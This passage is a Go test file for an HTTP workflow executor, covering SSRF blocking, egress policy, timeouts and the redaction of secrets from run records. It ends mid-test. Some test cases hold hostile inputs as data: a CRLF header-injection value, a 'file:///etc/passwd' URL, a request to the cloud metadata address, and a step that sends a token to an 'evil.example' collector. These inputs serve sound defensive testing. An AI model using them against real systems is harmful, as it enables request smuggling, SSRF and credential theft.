package executor_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/kobana/workflow/compile"
	"github.com/kobana/workflow/egress"
	"github.com/kobana/workflow/executor"
	"github.com/kobana/workflow/executor/guard"
	"github.com/kobana/workflow/resolve"
	"github.com/kobana/workflow/resolve/resolvetest"
	"github.com/kobana/workflow/runrecord"
)

var loopback = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8"), netip.MustParsePrefix("::1/128")}

// receiver is a test server that records what reached it.
type receiver struct {
	*httptest.Server
	mu       sync.Mutex
	requests []*received
	hits     atomic.Int64
}

type received struct {
	Method, Path string
	Header       http.Header
	Body         []byte
	Form         map[string]string
	Files        map[string][]byte
}

func newReceiver(t *testing.T, h func(w http.ResponseWriter, r *http.Request, got *received)) *receiver {
	t.Helper()
	rv := &receiver{}
	rv.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rv.hits.Add(1)
		got := &received{Method: r.Method, Path: r.URL.RequestURI(), Header: r.Header.Clone(), Form: map[string]string{}, Files: map[string][]byte{}}
		if mt, params, _ := mime.ParseMediaType(r.Header.Get("Content-Type")); mt == "multipart/form-data" {
			mr := multipart.NewReader(r.Body, params["boundary"])
			for {
				p, err := mr.NextPart()
				if err != nil {
					break
				}
				b, _ := io.ReadAll(p)
				if p.FileName() != "" {
					got.Files[p.FormName()] = b
				} else {
					got.Form[p.FormName()] = string(b)
				}
			}
		} else {
			got.Body, _ = io.ReadAll(r.Body)
		}
		rv.mu.Lock()
		rv.requests = append(rv.requests, got)
		rv.mu.Unlock()
		h(w, r, got)
	}))
	t.Cleanup(rv.Close)
	return rv
}

// hang answers nothing: it waits until the client gives up on the request,
// then drops the connection without a response. (A handler that returned
// instead would answer 200, which can still reach a client that is closing
// the connection, and the client would rightly record it.)
func hang(w http.ResponseWriter, r *http.Request) {
	<-r.Context().Done()
	panic(http.ErrAbortHandler)
}

// to returns a network that sends every request, whatever its host, to
// the receiver — dialling through the guard, so the guard still decides.
func to(g *guard.Guard, rv *receiver) guard.Network {
	// The test server's own certificate, any host name.
	return guard.Network{Dial: g.DialTo(rv.Listener.Addr().String()), TLS: &tls.Config{InsecureSkipVerify: true}}
}

func compilePlan(t testing.TB, doc string) *compile.Plan {
	t.Helper()
	p, ds := compile.Compile([]byte(doc), compile.Options{})
	if p == nil {
		t.Fatalf("compile: %v", ds)
	}
	return p
}

var pdfBytes = []byte("%PDF-1.7\n\x00\x01binary\xff\r\n%%EOF\n")

func env(secrets resolve.SecretMap) executor.Env {
	atts := &resolvetest.Attachments{Files: []resolvetest.File{{Filename: "nota.pdf", ContentType: "application/pdf", Data: pdfBytes}}}
	return executor.Env{
		Secrets:     secrets,
		Facts:       resolve.FactMap{"email_id": "em_42", "env": "sandbox"},
		Attachments: func() (resolve.Attachments, error) { return atts, nil },
	}
}

func allowLoopback() *guard.Guard { return &guard.Guard{Allow: loopback} }

func recordJSON(t testing.TB, rec *runrecord.Run) string {
	b, err := json.Marshal(rec)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestPayableExampleEndToEnd(t *testing.T) {
	doc, err := os.ReadFile("../examples/workflows/payable.json")
	if err != nil {
		t.Fatal(err)
	}
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, got *received) {
		switch {
		case r.URL.Path == "/payables":
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(201)
			io.WriteString(w, `{"data":{"id":"pay_77"}}`)
		case strings.HasSuffix(r.URL.Path, "/attachments"):
			w.WriteHeader(200)
		default:
			io.WriteString(w, "ok")
		}
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	secrets := resolve.SecretMap{"FINANCE_TOKEN": "fin-tok-1", "SLACK_WEBHOOK_URL": rv.URL + "/hooks/T0/B0/slack-secret-path"}
	rec := ex.Run(t.Context(), compilePlan(t, string(doc)), env(secrets))
	if rec.Status != runrecord.RunSucceeded {
		t.Fatalf("run: %s", recordJSON(t, rec))
	}
	if len(rv.requests) != 3 {
		t.Fatalf("%d requests", len(rv.requests))
	}
	r0, r1, r2 := rv.requests[0], rv.requests[1], rv.requests[2]
	if r0.Header.Get("Authorization") != "Bearer fin-tok-1" || string(r0.Body) != `{"supplier":"ACME","amount":1250.5,"source_email_id":"em_42"}` || r0.Header.Get("Content-Type") != "application/json" {
		t.Errorf("step 0 received %+v %s", r0.Header, r0.Body)
	}
	if r1.Path != "/payables/pay_77/attachments" || string(r1.Files["file"]) != string(pdfBytes) || r1.Form["kobana_email_id"] != "em_42" {
		t.Errorf("step 1 received %s %v %q", r1.Path, r1.Form, r1.Files["file"])
	}
	if r2.Path != "/hooks/T0/B0/slack-secret-path" || !strings.HasPrefix(string(r2.Body), `{"text":"Cuenta pay_77 creada el 20`) {
		t.Errorf("step 2 received %s %s", r2.Path, r2.Body)
	}
	js := recordJSON(t, rec)
	for _, leak := range []string{"fin-tok-1", "slack-secret-path", "%PDF", "binary"} {
		if strings.Contains(js, leak) {
			t.Errorf("record leaks %q: %s", leak, js)
		}
	}
	if rec.Steps[1].Request == nil || !strings.Contains(string(rec.Steps[1].Request.Form), `"file":{"attachment":0,"filename":"nota.pdf","content_type":"application/pdf","size":`+fmt.Sprint(len(pdfBytes))+`}`) {
		t.Errorf("form record: %s", js)
	}
	if rec.Steps[0].Response.Status != 201 || string(rec.Steps[0].Response.Body) != `{"data":{"id":"pay_77"}}` {
		t.Errorf("response record: %+v", rec.Steps[0].Response)
	}
}

// TestFailBeforeSending proves that each case the language fails a step for
// before sending, or skips it, sends nothing.
func TestFailBeforeSending(t *testing.T) {
	cases := []struct {
		name   string
		step   string // the second step, after a step 0 that succeeds with {"data":{"id":null,"n":1}}
		state  runrecord.State
		reason runrecord.Reason
		msg    string
	}{
		{"missing secret", `{"type":"request","url":"https://x.example/","headers":{"A":"${{secrets.NOPE}}"}}`, runrecord.Failed, runrecord.ReasonReference, `no secret "NOPE"`},
		{"missing attachment", `{"type":"request","url":"https://x.example/","form":{"f":"${{email.attachments.3}}"}}`, runrecord.Failed, runrecord.ReasonReference, "email has 1 attachment; attachment 3 does not exist"},
		{"null value", `{"type":"request","url":"https://x.example/${{steps.0.response.body.data.id}}"}`, runrecord.Failed, runrecord.ReasonReference, "null"},
		{"missing path", `{"type":"request","url":"https://x.example/","body":{"a":"${{steps.0.response.body.data.nope}}"}}`, runrecord.Failed, runrecord.ReasonReference, `has no "nope"`},
		{"undefined fact", `{"type":"request","url":"https://x.example/","body":"${{kobana.workspace_slug}}"}`, runrecord.Failed, runrecord.ReasonReference, "kobana.workspace_slug has no value"},
		{"CRLF in header", `{"type":"request","url":"https://x.example/","headers":{"A":"${{secrets.CRLF}}"}}`, runrecord.Failed, runrecord.ReasonInvalidRequest, "carriage return"},
		{"CRLF in url", `{"type":"request","url":"https://x.example/${{secrets.CRLF}}"}`, runrecord.Failed, runrecord.ReasonInvalidRequest, "carriage return"},
		{"secret url not http", `{"type":"request","url":"${{secrets.FILE}}"}`, runrecord.Failed, runrecord.ReasonInvalidRequest, "http or https"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var hits atomic.Int64
			rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, _ *received) {
				if hits.Add(1) == 1 {
					w.Header().Set("Content-Type", "application/json")
					io.WriteString(w, `{"data":{"id":null,"n":1}}`)
					return
				}
			})
			g := allowLoopback()
			ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
			p := compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"https://x.example/first"},`+tc.step+`]}`)
			rec := ex.Run(t.Context(), p, env(resolve.SecretMap{"CRLF": "v\r\nX-Evil: 1", "FILE": "file:///etc/passwd"}))
			if got := rv.hits.Load(); got != 1 {
				t.Fatalf("the receiver saw %d requests; only step 0 may reach it", got)
			}
			s := rec.Steps[1]
			if s.State != tc.state || s.Reason != tc.reason || !strings.Contains(s.Error, tc.msg) || rec.Status != runrecord.RunFailed {
				t.Errorf("got %s %s %q", s.State, s.Reason, s.Error)
			}
			if strings.Contains(recordJSON(t, rec), "X-Evil") {
				t.Errorf("record leaks the secret")
			}
		})
	}
}

func TestSkippedDependencyAndIndependentSteps(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, _ *received) {
		if r.URL.Path == "/fail" {
			w.WriteHeader(500)
			io.WriteString(w, `{"error":"boom"}`)
		}
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	p := compilePlan(t, `{"result":1,"workflow":[
		{"type":"request","url":"https://x.example/fail"},
		{"type":"request","url":"https://x.example/dep/${{steps.0.response.status}}"},
		{"type":"request","url":"https://x.example/indep"},
		{"type":"request","url":"https://x.example/dep2/${{steps.1.response.status}}"}]}`)
	rec := ex.Run(t.Context(), p, env(nil))
	want := []runrecord.State{runrecord.Failed, runrecord.Skipped, runrecord.Succeeded, runrecord.Skipped}
	for i, s := range rec.Steps {
		if s.State != want[i] {
			t.Errorf("step %d: %s (%s), want %s", i, s.State, s.Error, want[i])
		}
	}
	if rec.Status != runrecord.RunFailed || rv.hits.Load() != 2 {
		t.Errorf("status %s, hits %d", rec.Status, rv.hits.Load())
	}
	if !strings.Contains(rec.Steps[0].Error, "status is 500; the step expects a 2xx status") || !strings.Contains(rec.Steps[1].Error, "step 0, which failed") || !strings.Contains(rec.Steps[3].Error, "step 1, which was skipped") {
		t.Errorf("errors: %q / %q / %q", rec.Steps[0].Error, rec.Steps[1].Error, rec.Steps[3].Error)
	}
}

func TestExpectedStatus(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, _ *received) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"error":"quietly failed"}`) // a 200 with an error body
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	rec := ex.Run(t.Context(), compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"https://x.example/","expected_status":201},{"type":"request","url":"https://x.example/"}]}`), env(nil))
	if rec.Steps[0].State != runrecord.Failed || rec.Steps[0].Reason != runrecord.ReasonStatus || !strings.Contains(rec.Steps[0].Error, "expects status 201") {
		t.Errorf("step 0: %+v", rec.Steps[0])
	}
	if rec.Steps[1].State != runrecord.Succeeded {
		t.Errorf("step 1: %+v", rec.Steps[1])
	}
}

func TestSSRFDeniedSendsNothing(t *testing.T) {
	rv := newReceiver(t, func(http.ResponseWriter, *http.Request, *received) {})
	ex := executor.New(executor.Options{}) // deny-list only
	p := compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"${{secrets.URL}}","body":{"a":1}},{"type":"request","url":"http://169.254.169.254/latest/meta-data/"}]}`)
	rec := ex.Run(t.Context(), p, env(resolve.SecretMap{"URL": rv.URL + "/secret-path"}))
	if rv.hits.Load() != 0 {
		t.Fatalf("the receiver saw %d requests", rv.hits.Load())
	}
	for i, s := range rec.Steps {
		if s.State != runrecord.Failed || s.Reason != runrecord.ReasonDenied {
			t.Errorf("step %d: %+v", i, s)
		}
	}
	if !strings.Contains(rec.Steps[0].Error, "loopback") || !strings.Contains(rec.Steps[1].Error, "link-local") {
		t.Errorf("errors: %q %q", rec.Steps[0].Error, rec.Steps[1].Error)
	}
	if strings.Contains(recordJSON(t, rec), "secret-path") {
		t.Error("record leaks the secret URL")
	}
}

func TestDeniedAtDialTime(t *testing.T) {
	// The host is a name (not an IP), so only the dial-time check can refuse it.
	rv := newReceiver(t, func(http.ResponseWriter, *http.Request, *received) {})
	_, port, _ := net.SplitHostPort(rv.Listener.Addr().String())
	ex := executor.New(executor.Options{})
	rec := ex.Run(t.Context(), compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"http://localhost:`+port+`/x"}]}`), env(nil))
	if rv.hits.Load() != 0 || rec.Steps[0].Reason != runrecord.ReasonDenied || !strings.Contains(rec.Steps[0].Error, "is denied: loopback") {
		t.Fatalf("hits %d, step %+v", rv.hits.Load(), rec.Steps[0])
	}
}

func TestFaultyReceivers(t *testing.T) {
	big := strings.Repeat("x", 2048)
	cases := []struct {
		name    string
		handler http.HandlerFunc
		next    string // a second step referencing the first
		state0  runrecord.State
		reason0 runrecord.Reason
		msg0    string
		msg1    string
	}{
		{"hang", hang, "", runrecord.Unknown, runrecord.ReasonTimeout, "no complete response within", ""},
		{"slow trickle", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Length", "100")
			for i := 0; i < 100; i++ {
				if _, err := w.Write([]byte("x")); err != nil {
					return
				}
				w.(http.Flusher).Flush()
				select {
				case <-r.Context().Done():
					return
				case <-time.After(50 * time.Millisecond):
				}
			}
		}, "", runrecord.Unknown, runrecord.ReasonTimeout, "no complete response within", ""},
		{"reset", func(w http.ResponseWriter, r *http.Request) {
			conn, _, _ := w.(http.Hijacker).Hijack()
			conn.(*tls.Conn).NetConn().(*net.TCPConn).SetLinger(0)
			conn.Close()
		}, "", runrecord.Unknown, runrecord.ReasonTransport, "", ""},
		{"5xx", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(503) }, "", runrecord.Failed, runrecord.ReasonStatus, "status is 503", ""},
		{"too large", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"a":"`+big+`"}`)
		}, `{"type":"request","url":"https://x.example/${{steps.0.response.body.a}}"}`, runrecord.Succeeded, "", "", "larger than the capture limit (1 KiB)"},
		{"malformed JSON", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"a":`)
		}, `{"type":"request","url":"https://x.example/${{steps.0.response.body.a}}"}`, runrecord.Succeeded, "", "", "declares JSON but does not parse"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var n atomic.Int64
			rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, _ *received) {
				if n.Add(1) == 1 {
					tc.handler(w, r)
				}
			})
			g := allowLoopback()
			ex := executor.New(executor.Options{Guard: g, Network: to(g, rv), StepTimeout: 300 * time.Millisecond, CaptureLimit: 1024})
			doc := `{"result":1,"workflow":[{"type":"request","url":"https://x.example/"}`
			if tc.next != "" {
				doc += "," + tc.next
			}
			done := make(chan *runrecord.Run)
			go func() { done <- ex.Run(t.Context(), compilePlan(t, doc+"]}"), env(nil)) }()
			var rec *runrecord.Run
			select {
			case rec = <-done:
			case <-time.After(10 * time.Second):
				t.Fatal("the run hangs")
			}
			s := rec.Steps[0]
			if s.State != tc.state0 || s.Reason != tc.reason0 || !strings.Contains(s.Error, tc.msg0) {
				t.Errorf("step 0: %s %s %q", s.State, s.Reason, s.Error)
			}
			if tc.next != "" {
				s1 := rec.Steps[1]
				if s1.State != runrecord.Failed || !strings.Contains(s1.Error, tc.msg1) || n.Load() != 1 {
					t.Errorf("step 1: %s %q (receiver saw %d)", s1.State, s1.Error, n.Load())
				}
			}
			if rec.Status != runrecord.RunFailed {
				t.Errorf("run %s", rec.Status)
			}
		})
	}
}

func TestTruncatedResponseIsRecordedAsSuch(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, _ *received) {
		io.WriteString(w, strings.Repeat("y", 5000))
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv), CaptureLimit: 1000})
	rec := ex.Run(t.Context(), compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"https://x.example/"}]}`), env(nil))
	r := rec.Steps[0].Response
	if rec.Status != runrecord.RunSucceeded || !r.Truncated || r.Body != nil || r.Size != 5000 {
		t.Errorf("%+v, want truncated, no body, size 5000 (the bytes received)", r)
	}
}

// A stop (the run's context cancelled) while a request is held by its
// receiver leaves that step unknown — the receiver has the request — and
// never failed; the steps not started are skipped. The journal is told of
// each, the unknown step included.
func TestAStopNeverRecordsASentRequestAsFailed(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, _ *received) {
		cancel()
		hang(w, r)
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	e := env(nil)
	var told []runrecord.State
	e.Journal = runrecord.DoneFunc(func(s runrecord.Step) { told = append(told, s.State) })
	rec := ex.Run(ctx, compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"https://x.example/a"},{"type":"request","url":"https://x.example/b"},{"type":"request","url":"https://x.example/c"}]}`), e)
	if len(rec.Steps) != 3 || rec.Status != runrecord.RunFailed {
		t.Fatalf("%s", recordJSON(t, rec))
	}
	if s := rec.Steps[0]; s.State != runrecord.Unknown || s.Reason != runrecord.ReasonInterrupted || s.Request == nil ||
		!strings.Contains(s.Error, "may or may not have got it") {
		t.Errorf("step 0 %+v", s)
	}
	if fmt.Sprint(told) != "[unknown skipped skipped]" {
		t.Errorf("the journal was told %v", told)
	}
	for _, s := range rec.Steps[1:] {
		if s.State != runrecord.Skipped || s.Reason != runrecord.ReasonCancelled || !strings.Contains(s.Error, "cancelled") {
			t.Errorf("step %d %+v", s.Index, s)
		}
	}
	if rv.hits.Load() != 1 {
		t.Errorf("hits %d", rv.hits.Load())
	}
}

func TestRunDeadline(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, _ *received) { hang(w, r) })
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv), RunTimeout: 200 * time.Millisecond})
	rec := ex.Run(t.Context(), compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"https://x.example/a"},{"type":"request","url":"https://x.example/b"}]}`), env(nil))
	if rec.Steps[0].Reason != runrecord.ReasonCancelled || !strings.Contains(rec.Steps[1].Error, "deadline") {
		t.Errorf("%s", recordJSON(t, rec))
	}
}

func TestSecretEchoedByTheReceiverIsRedacted(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, got *received) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		// The secret escaped in JSON, so a plain text search would miss it.
		io.WriteString(w, `{"you_sent":"Bearer s\u0065cret-value-9","raw":"`+strings.ReplaceAll(string(got.Body), `"`, `\"`)+`"}`)
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	rec := ex.Run(t.Context(), compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"https://x.example/","headers":{"Authorization":"Bearer ${{secrets.T}}"},"body":"${{secrets.T}}"}]}`), env(resolve.SecretMap{"T": "secret-value-9"}))
	js := recordJSON(t, rec)
	if strings.Contains(js, "secret-value-9") || strings.Contains(js, `s\u0065cret`) || !strings.Contains(js, "[redacted secrets.T]") {
		t.Errorf("record: %s", js)
	}
}

func TestConcurrentRunsShareTheExecutor(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, got *received) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"echo":%q}`, got.Body)
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	p := compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"https://x.example/","body":"${{secrets.N}}"},{"type":"request","url":"https://x.example/","body":"${{steps.0.response.body.echo}}"}]}`)
	var wg sync.WaitGroup
	for i := 0; i < 20; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			n := fmt.Sprintf("run-%d", i)
			rec := ex.Run(t.Context(), p, env(resolve.SecretMap{"N": n}))
			if rec.Status != runrecord.RunSucceeded {
				t.Errorf("run %d: %s", i, recordJSON(t, rec))
				return
			}
			if got := string(rec.Steps[1].Request.Body); got != `"[redacted secrets.N]"` {
				t.Errorf("run %d: step 1 body record %s", i, got)
			}
		}()
	}
	wg.Wait()
}

func TestOnStepProgress(t *testing.T) {
	rv := newReceiver(t, func(http.ResponseWriter, *http.Request, *received) {})
	g := allowLoopback()
	var seen []int
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	e := env(nil)
	e.Journal = runrecord.DoneFunc(func(s runrecord.Step) { seen = append(seen, s.Index) })
	ex.Run(t.Context(), compilePlan(t, `{"result":1,"workflow":[{"type":"request","url":"https://x.example/"},{"type":"request","url":"https://x.example/"}]}`), e)
	if fmt.Sprint(seen) != "[0 1]" {
		t.Errorf("progress %v", seen)
	}
}

// A receiver that echoes what it got back — the uploaded file raw, its
// base64 in JSON (with escaped slashes, as some encoders write), or a long
// body with the secret past the record's clip — does not put the file or the
// secret into the record.
func TestEchoedAttachmentsAndSecretsStayOutOfTheRecord(t *testing.T) {
	file := bytes.Repeat([]byte("%PDF-1.7 binary \x00\xff\x10 stream/endstream "), 40) // ~1.4 KiB, '/' in base64 likely
	b64 := base64.StdEncoding.EncodeToString(file)
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, got *received) {
		switch r.URL.Path {
		case "/raw":
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Write(got.Files["f"])
		case "/json":
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"echo":"%s"}`, strings.ReplaceAll(b64, "/", `\/`))
		case "/long":
			w.Header().Set("Content-Type", "text/plain")
			io.WriteString(w, strings.Repeat("x", 2000)+"s3cr3t-echoed-9 was the token") // the clip at 2010 cuts the secret
		}
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv), RecordBodyLimit: 2010})
	atts := &resolvetest.Attachments{Files: []resolvetest.File{{Filename: "nota.pdf", ContentType: "application/pdf", Data: file}}}
	env := executor.Env{Secrets: resolve.SecretMap{"T": "s3cr3t-echoed-9"},
		Attachments: func() (resolve.Attachments, error) { return atts, nil }}
	p := compilePlan(t, `{"result":1,"workflow":[
		{"type":"request","url":"https://x.example/raw","form":{"f":"${{email.attachments.0}}"}},
		{"type":"request","url":"https://x.example/json","body":{"f":"${{email.attachments.0.base64}}"}},
		{"type":"request","url":"https://x.example/long","headers":{"Authorization":"${{secrets.T}}"}}]}`)
	rec := ex.Run(t.Context(), p, env)
	if rec.Status != runrecord.RunSucceeded {
		t.Fatalf("%s", recordJSON(t, rec))
	}
	js := recordJSON(t, rec)
	for _, leak := range []string{b64[:64], strings.ReplaceAll(b64, "/", `\/`)[:64], "binary \\u0000", "s3cr3t-echoed-9", "s3cr3t-ech"} {
		if strings.Contains(js, leak) {
			t.Errorf("record holds %q: %s", leak, js)
		}
	}
	if !strings.Contains(string(rec.Steps[1].Response.Body), `[attachment 0: nota.pdf, application/pdf, `) {
		t.Errorf("the echoed base64 is not described: %s", rec.Steps[1].Response.Body)
	}
	if !rec.Steps[2].Response.BodyClipped {
		t.Errorf("the long body was not clipped")
	}
}

// TestForwardReferenceFailsOnlyThatStep: earlier steps run, the step that
// refers forward fails before sending with a reason that says so, and an
// independent later step still runs.
func TestForwardReferenceFailsOnlyThatStep(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, _ *received) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"id":"x1"}`)
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	plan, ds := compile.Compile([]byte(`{"result":1,"workflow":[
		{"type":"request","url":"https://x.example/a"},
		{"type":"request","url":"https://x.example/b/${{steps.0.response.body.id}}","body":{"later":"${{steps.2.response.body.id}}"}},
		{"type":"request","url":"https://x.example/c"}]}`), compile.Options{})

	if plan == nil {
		t.Fatalf("the workflow is rejected: %v", ds)
	}
	rec := ex.Run(t.Context(), plan, env(nil))
	s := rec.Steps
	if rec.Status != runrecord.RunFailed || s[0].State != runrecord.Succeeded || s[2].State != runrecord.Succeeded {
		t.Fatalf("%s", recordJSON(t, rec))
	}
	if s[1].State != runrecord.Failed || s[1].Reason != runrecord.ReasonReference || s[1].Request != nil ||
		!strings.Contains(s[1].Error, "not sent") || !strings.Contains(s[1].Error, "step 2") || !strings.Contains(s[1].Error, "forward reference") {
		t.Errorf("step 1: %+v", s[1])
	}
	var paths []string
	for _, r := range rv.requests {
		paths = append(paths, r.Path)
	}
	if fmt.Sprint(paths) != "[/a /c]" {
		t.Errorf("the receiver got %v, want [/a /c]", paths)
	}
}

// TestEveryFormOfASecretIsRedactedOnce runs the audit's cases end to end: a
// secret with spaces sent in a URL path comes back percent-encoded in a
// header and a body; a numeric secret comes back as a JSON number; one
// secret's value ("secrets") is part of every marker. None survives in the
// record (a different number that merely contains the digits, 4839201, is
// kept), no marker is nested, and redacting the record again changes
// nothing.
func TestEveryFormOfASecretIsRedactedOnce(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, got *received) {
		w.Header().Set("X-Echo", r.URL.RequestURI())
		switch r.URL.Path {
		case "/pin":
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"pin":483920,"pins":[483920,4839201],"again":"483920"}`)
		default:
			w.Header().Set("Content-Type", "text/plain")
			io.WriteString(w, "you asked for "+r.URL.RequestURI()+" with "+r.Header.Get("Authorization"))
		}
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	secrets := resolve.SecretMap{"T": "my secret token", "PIN": "483920", "FINANCE_TOKEN": "tok-fin-77", "X": "secrets"}
	rec := ex.Run(t.Context(), compilePlan(t, `{"result":1,"workflow":[
		{"type":"request","url":"https://x.example/p/${{secrets.T}}?q=${{secrets.T}}","headers":{"Authorization":"Bearer ${{secrets.FINANCE_TOKEN}}"}},
		{"type":"request","url":"https://x.example/pin","body":{"pin":"${{secrets.PIN}}","n":483920,"label":"our secrets"}}]}`), env(secrets))
	if rec.Status != runrecord.RunSucceeded {
		t.Fatalf("%s", recordJSON(t, rec))
	}
	js := recordJSON(t, rec)
	for _, leak := range []string{"my secret token", "my%20secret%20token", "my+secret+token", `"483920`, ":483920", "[483920", "tok-fin-77", "[redacted [redacted", "secrets]"} {
		if strings.Contains(js, leak) {
			t.Errorf("the record holds %q: %s", leak, js)
		}
	}
	if got := string(rec.Steps[1].Response.Body); got != `{"pin":"[redacted secrets.PIN]","pins":["[redacted secrets.PIN]",4839201],"again":"[redacted secrets.PIN]"}` {
		t.Errorf("response body record %s", got)
	}
	if got := rec.Steps[0].Response.Headers["X-Echo"]; got != "/p/[redacted secrets.T]?q=[redacted secrets.T]" {
		t.Errorf("echoed header %q", got)
	}
	if got := rec.Steps[1].Request.Body; string(got) != `{"pin":"[redacted secrets.PIN]","n":"[redacted secrets.PIN]","label":"our [redacted secrets.X]"}` {
		t.Errorf("request body record %s", got)
	}
	again, ok := resolve.NewRedactor(secrets).JSON([]byte(js))
	if !ok || string(again) != js {
		t.Errorf("redacting the record again changes it:\n%s\n%s", js, again)
	}
}

// TestLoneSurrogateReadsOneWay: a lone surrogate escape in a response is
// U+FFFD both in what a later step sends and in the record.
func TestLoneSurrogateReadsOneWay(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, got *received) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"a":"x\ud800y"}`)
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	rec := ex.Run(t.Context(), compilePlan(t, `{"result":1,"workflow":[
		{"type":"request","url":"https://x.example/a"},
		{"type":"request","url":"https://x.example/b","body":{"v":"${{steps.0.response.body.a}}"}}]}`), env(nil))
	if rec.Status != runrecord.RunSucceeded {
		t.Fatalf("%s", recordJSON(t, rec))
	}
	var sent, recorded struct{ V, A string }
	if err := json.Unmarshal(rv.requests[1].Body, &sent); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(rec.Steps[0].Response.Body, &recorded); err != nil {
		t.Fatal(err)
	}
	if sent.V != "x\uFFFDy" || recorded.A != sent.V {
		t.Errorf("sent %q, recorded %q (%s)", sent.V, recorded.A, rec.Steps[0].Response.Body)
	}
}

// TestDestinationsRefusedBeforeSending: the policy is checked on the URL
// after substitution and on every secret the request carries — put there
// by a placeholder, or echoed back by an earlier response and forwarded —
// and a refused step sends nothing, its record naming the secret and the
// host; a URL secret goes to its own host; the egress list stops the rest.
func TestDestinationsRefusedBeforeSending(t *testing.T) {
	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, got *received) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"next": "evil.example", "echo": "`+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")+`"}`)
	})
	g := allowLoopback()
	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
	doc := `{"result": 1, "workflow": [
  {"type": "request", "method": "GET", "url": "https://erp.example.com/token", "headers": {"Authorization": "Bearer ${{secrets.FINANCE_TOKEN}}"}},
  {"type": "request", "url": "https://${{steps.0.response.body.next}}/collect", "body": {"t": "${{secrets.FINANCE_TOKEN}}"}},
  {"type": "request", "url": "https://hooks.example.net/x", "body": {"copied": "${{steps.0.response.body.echo}}"}},
  {"type": "request", "url": "${{secrets.HOOK_URL}}", "body": {"text": "done"}},
  {"type": "request", "url": "https://elsewhere.example/", "body": "hello"}
]}`
	e := env(resolve.SecretMap{"FINANCE_TOKEN": "fin-token-4242", "HOOK_URL": "https://hooks.example.net/T1/B2"})
	allowed := egress.MustParseList("erp.example.com", "hooks.example.net")
	e.Policy = &egress.Policy{Secrets: map[string]egress.Destinations{"FINANCE_TOKEN": egress.MustParseList("erp.example.com")}, Egress: &allowed, EgressOf: "agent Invoices (agt_1)"}
